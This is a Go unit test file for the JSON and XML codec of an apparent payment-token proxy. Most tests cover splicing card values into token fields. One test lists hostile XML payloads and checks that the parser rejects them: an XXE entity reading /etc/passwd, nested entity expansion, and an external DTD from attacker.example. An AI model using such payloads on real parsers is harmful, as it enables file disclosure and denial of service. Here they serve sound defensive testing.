package codec

import (
	"net/url"
	"strings"
	"testing"

	"github.com/antchfx/xmlquery"
	"github.com/google/go-cmp/cmp"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/akave-ai/vaultgate/internal/apperr"
)

func TestJSON_MergeExpiration(t *testing.T) {
	doc, err := ParseJSON([]byte(`{"CardNumber":"tok_c","ExpirationMonth":"tok_m","ExpirationYear":"tok_y","CVC":"tok_v","Amount":1000}`))
	require.NoError(t, err)

	require.NoError(t, doc.MergeExpiration("ExpirationMonth", "ExpirationYear", "Expiration", "05", "29"))

	_, ok := doc.Get("ExpirationMonth")
	assert.False(t, ok)
	_, ok = doc.Get("ExpirationYear")
	assert.False(t, ok)
	v, ok := doc.Get("Expiration")
	assert.True(t, ok)
	assert.Equal(t, "202905", v)

	out, err := doc.Bytes()
	require.NoError(t, err)
	assert.JSONEq(t, `{"CardNumber":"tok_c","CVC":"tok_v","Amount":1000,"Expiration":"202905"}`, string(out))
}

func TestExpirationYYYYMM(t *testing.T) {
	tests := []struct {
		year, month string
		want        string
		wantErr     bool
	}{
		{year: "29", month: "05", want: "202905"},
		{year: "2031", month: "12", want: "203112"},
		{year: "29", month: "5", want: "202905"},
		{year: "9", month: "05", wantErr: true},
		{year: "29", month: "May", wantErr: true},
		{year: "", month: "05", wantErr: true},
	}
	for _, tt := range tests {
		got, err := ExpirationYYYYMM(tt.year, tt.month)
		if tt.wantErr {
			assert.Equal(t, apperr.MalformedPayload, apperr.KindOf(err), "year=%q month=%q", tt.year, tt.month)
			continue
		}
		require.NoError(t, err)
		assert.Equal(t, tt.want, got)
	}
}

func TestJSON_NestedSplice(t *testing.T) {
	body := `{"paymentInformation":{"card":{"number":"tok_n","expirationMonth":"tok_m","expirationYear":"tok_y"}},"orderInformation":{"amountDetails":{"totalAmount":"102.21"}}}`
	doc, err := ParseJSON([]byte(body))
	require.NoError(t, err)

	paths := []string{"paymentInformation.card.number", "paymentInformation.card.expirationMonth", "paymentInformation.card.expirationYear"}
	assert.Equal(t, []string{"tok_n", "tok_m", "tok_y"}, doc.Tokens(paths))

	values := []string{"4111111111111111", "12", "2031"}
	require.NoError(t, doc.Splice(paths, func(i int) (string, bool) { return values[i], true }))

	out, err := doc.Bytes()
	require.NoError(t, err)
	assert.JSONEq(t, `{"paymentInformation":{"card":{"number":"4111111111111111","expirationMonth":"12","expirationYear":"2031"}},"orderInformation":{"amountDetails":{"totalAmount":"102.21"}}}`, string(out))
}

func TestJSON_SpliceSkipsAbsent(t *testing.T) {
	doc, err := ParseJSON([]byte(`{"CardNumber":"tok_c"}`))
	require.NoError(t, err)

	paths := []string{"CardNumber", "CVC"}
	assert.Equal(t, []string{"tok_c", ""}, doc.Tokens(paths))
	require.NoError(t, doc.Splice(paths, func(i int) (string, bool) { return "4111", i == 0 }))

	out, err := doc.Bytes()
	require.NoError(t, err)
	assert.Equal(t, `{"CardNumber":"4111"}`, string(out))
}

func TestJSON_BytesPreservesNumbersAndDoesNotEscapeHTML(t *testing.T) {
	doc, err := ParseJSON([]byte(`{"amount":12345678901234567890,"note":"a<b&c"}`))
	require.NoError(t, err)
	out, err := doc.Bytes()
	require.NoError(t, err)
	assert.Equal(t, `{"amount":12345678901234567890,"note":"a<b&c"}`, string(out))
}

func TestParseJSON_Malformed(t *testing.T) {
	for _, body := range []string{``, `{`, `[1,2]`, `"str"`, `{"a":1} {"b":2}`, `garbage`} {
		_, err := ParseJSON([]byte(body))
		assert.Equal(t, apperr.MalformedPayload, apperr.KindOf(err), "body %q", body)
	}
}

func TestJSON_NonObjectParent(t *testing.T) {
	doc, err := ParseJSON([]byte(`{"paymentInformation":"flat"}`))
	require.NoError(t, err)
	_, ok := doc.Get("paymentInformation.card.number")
	assert.False(t, ok)
	err = doc.Set("paymentInformation.card.number", "x")
	assert.Equal(t, apperr.MalformedPayload, apperr.KindOf(err))
}

func TestStringify(t *testing.T) {
	assert.Equal(t, `{"a":1}`, Stringify([]byte("{ \"a\": 1 }\n")))
	assert.Equal(t, `"Service Unavailable"`, Stringify([]byte("Service Unavailable")))
	assert.Equal(t, `"<html>"`, Stringify([]byte("<html>")))
	assert.Equal(t, "", Stringify(nil))
}

const authXML = `<?xml version="1.0" encoding="UTF-8"?>
<data>
  <authrequest CardNumber="tok_c" CVV="tok_v" ExpDate="tok_e" MerchantID="12345" Amount="9.99" Currency="USD"/>
  <customer name="Jane &amp; John" country="US"><address line1="1 Main St"/></customer>
</data>`

type xmlShape struct {
	Name     string
	Attrs    map[string]string
	Children []xmlShape
}

func shapeOf(n *xmlquery.Node) []xmlShape {
	var out []xmlShape
	for c := n.FirstChild; c != nil; c = c.NextSibling {
		if c.Type != xmlquery.ElementNode {
			continue
		}
		s := xmlShape{Name: c.Data, Attrs: map[string]string{}}
		for _, a := range c.Attr {
			s.Attrs[a.Name.Local] = a.Value
		}
		s.Children = shapeOf(c)
		out = append(out, s)
	}
	return out
}

func TestXML_RoundTripPreservesStructure(t *testing.T) {
	doc, err := ParseXML(authXML)
	require.NoError(t, err)

	again, err := ParseXML(doc.String())
	require.NoError(t, err)

	if diff := cmp.Diff(shapeOf(doc.root), shapeOf(again.root)); diff != "" {
		t.Fatalf("round trip changed structure (-before +after):\n%s", diff)
	}
	v, ok, err := again.Attr("data/customer", "name")
	require.NoError(t, err)
	assert.True(t, ok)
	assert.Equal(t, "Jane & John", v)
}

func TestXML_SpliceAttrs(t *testing.T) {
	doc, err := ParseXML(authXML)
	require.NoError(t, err)

	names := []string{"CardNumber", "CVV", "ExpDate"}
	tokens, err := doc.Attrs("data/authrequest", names)
	require.NoError(t, err)
	assert.Equal(t, []string{"tok_c", "tok_v", "tok_e"}, tokens)

	values := []string{"4111111111111111", "123", "1229"}
	require.NoError(t, doc.SpliceAttrs("data/authrequest", names, func(i int) (string, bool) { return values[i], true }))

	out, err := ParseXML(doc.String())
	require.NoError(t, err)
	before := shapeOf(mustParse(t, authXML).root)
	after := shapeOf(out.root)

	want := before
	want[0].Children[0].Attrs["CardNumber"] = "4111111111111111"
	want[0].Children[0].Attrs["CVV"] = "123"
	want[0].Children[0].Attrs["ExpDate"] = "1229"
	if diff := cmp.Diff(want, after); diff != "" {
		t.Fatalf("unexpected document (-want +got):\n%s", diff)
	}
}

func mustParse(t *testing.T, s string) *XMLDocument {
	t.Helper()
	doc, err := ParseXML(s)
	require.NoError(t, err)
	return doc
}

func TestXML_RejectsEntityDeclarations(t *testing.T) {
	payloads := []string{
		`<?xml version="1.0"?><!DOCTYPE data [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><data><authrequest CardNumber="&xxe;"/></data>`,
		`<!DOCTYPE data [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><data>&b;</data>`,
		`<!DOCTYPE data SYSTEM "http://attacker.example/evil.dtd"><data/>`,
		`<!DOCTYPE data [<!ENTITY x "y">]><data><authrequest CardNumber="tok_c" CVV="tok_v" ExpDate="tok_e"/></data>`,
		`<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE data><data/>`,
		`<data><authrequest CardNumber="tok_c"/></data><!DOCTYPE data>`,
		`<data><authrequest CardNumber="&undefined;"/></data>`,
	}
	for _, p := range payloads {
		doc, err := ParseXML(p)
		assert.Nil(t, doc, "payload %q", p)
		assert.Equal(t, apperr.MalformedPayload, apperr.KindOf(err), "payload %q", p)
	}
}

func TestXML_Malformed(t *testing.T) {
	for _, p := range []string{``, `   `, `<data>`, `not xml at all`, `<data><a></b></data>`} {
		_, err := ParseXML(p)
		assert.Equal(t, apperr.MalformedPayload, apperr.KindOf(err), "payload %q", p)
	}
}

func TestXML_MissingElement(t *testing.T) {
	doc := mustParse(t, `<data><other/></data>`)
	_, err := doc.Element("data/authrequest")
	assert.Equal(t, apperr.MalformedPayload, apperr.KindOf(err))
}

func TestFormXML_RewritesField(t *testing.T) {
	form := url.Values{}
	form.Set("XMLData", `<data><authrequest CardNumber="tok_c" CVV="tok_v" ExpDate="tok_e" Amount="5.00"/></data>`)
	form.Set("Other", "keep me")

	f, err := ParseFormXML([]byte(form.Encode()), "XMLData")
	require.NoError(t, err)
	require.NoError(t, f.XML.SetAttr("data/authrequest", "CardNumber", "4111"))

	encoded, err := url.ParseQuery(f.Encode())
	require.NoError(t, err)
	assert.Equal(t, "keep me", encoded.Get("Other"))

	doc := mustParse(t, encoded.Get("XMLData"))
	v, _, err := doc.Attr("data/authrequest", "CardNumber")
	require.NoError(t, err)
	assert.Equal(t, "4111", v)
	v, _, err = doc.Attr("data/authrequest", "Amount")
	require.NoError(t, err)
	assert.Equal(t, "5.00", v)
}

func TestFormXML_UnencodedXML(t *testing.T) {
	body := `XMLData=<data><authrequest CardNumber="tok_c"/></data>`
	f, err := ParseFormXML([]byte(body), "XMLData")
	require.NoError(t, err)
	v, ok, err := f.XML.Attr("data/authrequest", "CardNumber")
	require.NoError(t, err)
	assert.True(t, ok)
	assert.Equal(t, "tok_c", v)
}

func TestFormXML_MissingField(t *testing.T) {
	_, err := ParseFormXML([]byte("Other=1"), "XMLData")
	assert.Equal(t, apperr.MalformedPayload, apperr.KindOf(err))
	assert.True(t, strings.Contains(err.Error(), "XMLData field not found"))

	_, err = ParseFormXML([]byte("XMLData=%zz"), "XMLData")
	assert.Equal(t, apperr.MalformedPayload, apperr.KindOf(err))
}

func TestJSON_RequireObject(t *testing.T) {
	doc, err := ParseJSON([]byte(`{"paymentInformation":{"card":{"number":"tok_c"},"flat":"x"}}`))
	require.NoError(t, err)

	assert.NoError(t, doc.RequireObject("paymentInformation.card"))
	for _, path := range []string{"paymentInformation.flat", "paymentInformation.bank", "orderInformation.card", "paymentInformation.card.number"} {
		assert.Equal(t, apperr.MalformedPayload, apperr.KindOf(doc.RequireObject(path)), path)
	}
}

func TestJSON_BytesSortsObjectKeys(t *testing.T) {
	doc, err := ParseJSON([]byte(`{"z":"1","a":{"y":2,"b":3},"m":"x"}`))
	require.NoError(t, err)
	out, err := doc.Bytes()
	require.NoError(t, err)
	assert.Equal(t, `{"a":{"b":3,"y":2},"m":"x","z":"1"}`, string(out))
}
